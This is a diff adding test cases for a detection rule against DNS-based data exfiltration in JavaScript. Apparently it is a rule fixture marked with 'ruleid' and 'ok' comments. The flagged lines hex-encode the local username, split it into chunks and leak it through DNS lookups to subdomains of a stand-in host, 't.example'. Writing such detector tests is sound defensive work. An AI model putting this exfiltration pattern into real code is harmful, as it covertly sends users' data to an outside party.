@@ -90,5 +90,26 @@ async function beacon(secret, name) {
   dns.lookup(process.env.DB_HOST, () => {});
   // ok: js.exfil.dns-subdomain
   dns.lookup(os.hostname(), () => {});
+  const label = Buffer.from(JSON.stringify({ u: os.userInfo().username })).toString('hex');
+  // ruleid: js.exfil.dns-subdomain
+  dns.resolve4(label.slice(0, 60), () => {});
+  const chunks = label.match(/.{1,60}/g);
+  chunks.forEach((c, i) => {
+    // ruleid: js.exfil.dns-subdomain
+    dns.lookup(`${i}.${c}.t.example`, () => {});
+  });
+  for (const piece of chunks) {
+    // ruleid: js.exfil.dns-subdomain
+    dns.resolveTxt(piece, () => {});
+  }
+  const host = process.env.DB_HOST || 'localhost';
+  // ok: js.exfil.dns-subdomain
+  dns.lookup(host, () => {});
+  const self = os.hostname();
+  // ok: js.exfil.dns-subdomain
+  dns.lookup(self, () => {});
+  const peers = ['a.example.com', 'b.example.com'];
+  // ok: js.exfil.dns-subdomain
+  peers.forEach((p) => dns.lookup(p, () => {}));
 }
 module.exports = { handlers, tlsOptions, setTls, beacon };
